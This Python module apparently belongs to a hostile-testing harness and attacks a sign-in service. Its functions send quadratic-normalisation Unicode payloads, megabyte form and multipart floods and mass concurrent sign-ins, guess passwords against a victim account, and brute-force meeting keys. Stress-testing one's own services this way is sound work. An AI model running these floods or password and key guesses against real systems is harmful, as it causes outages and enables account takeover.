"""Attacks on sign-in, by strangers for the most part."""

from __future__ import annotations

from urllib.parse import urlencode

from prove.hostile.target import Answers, Target
from prove.hostile.wire import at_once, form, sign_in

_LARGEST = 1024 * 1024
_MARKS = "\u0316\u0301"
"""Combining characters in an order that normalising has to change, which is quadratic."""
_CONNECTIONS = 300
_GUESTS = 300
_ANONYMOUS = "urn:microsoft.rtc:anonmeeting"


async def combining(target: Target, outcome: Answers) -> None:
    """Fields of many combining characters, in the password and in the name."""
    marks = "a" + _MARKS * 25_000
    asked = [
        urlencode({"grant_type": "password", "username": "x", "password": marks}),
        urlencode({"grant_type": "password", "username": marks, "password": "x"}),
        f"grant_type=password&username=x&password={marks}",  # not escaped, as curl sends it
        urlencode({"grant_type": _ANONYMOUS, "password": marks, "ms_rtc_conferenceuri": marks}),
    ]
    for _ in range(target.rounds):
        await at_once(target, (form(target, one.encode()) for one in asked), outcome)


async def forms(target: Target, outcome: Answers) -> None:
    """Forms of a megabyte: many fields, one long field, escapes, and many parts."""
    start = b"grant_type=password&username=x&password=x&"
    fillings = (b"a=1&", b"a", b"%61", b"&", b"=", b"%", b"+", b";")
    asked = [form(target, (start + one * _LARGEST)[:_LARGEST]) for one in fillings]
    field = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'
    for filling in (field, b"--b\r\n", b"\r\n", b"-", b"--b\r\nA: b\r\n"):
        body = (filling * (_LARGEST // len(filling)))[: _LARGEST - 10] + b"--b--\r\n"
        asked.append(form(target, body, "multipart/form-data; boundary=b"))
    for _ in range(target.rounds):
        await at_once(target, asked, outcome)


async def sign_ins(target: Target, outcome: Answers) -> None:
    """Sign in with the right password of one account, on hundreds of connections at once."""
    asked = [sign_in(target, target.user, target.password)] * _CONNECTIONS
    for _ in range(target.rounds):
        await at_once(target, asked, outcome)


async def passwords(target: Target, outcome: Answers) -> None:
    """Try wrong passwords of somebody else, and of people whom there are not."""
    asked = [sign_in(target, target.victim, f"wrong {n}") for n in range(30)]
    asked += [sign_in(target, f"nobody{n}@contoso.com", "wrong") for n in range(30)]
    for _ in range(target.rounds):
        await at_once(target, asked, outcome, most=8)


async def guests(target: Target, outcome: Answers) -> None:
    """Join somebody's meeting hundreds of times, and try wrong keys of it."""
    asked = {"grant_type": _ANONYMOUS, "ms_rtc_conferenceuri": target.meeting}
    right = form(target, urlencode({**asked, "password": target.meeting_key}).encode())
    wrong = form(target, urlencode({**asked, "password": "AAAAAAAA"}).encode())
    for _ in range(target.rounds):
        await at_once(target, [*[right] * _GUESTS, *[wrong] * 30], outcome, most=50)
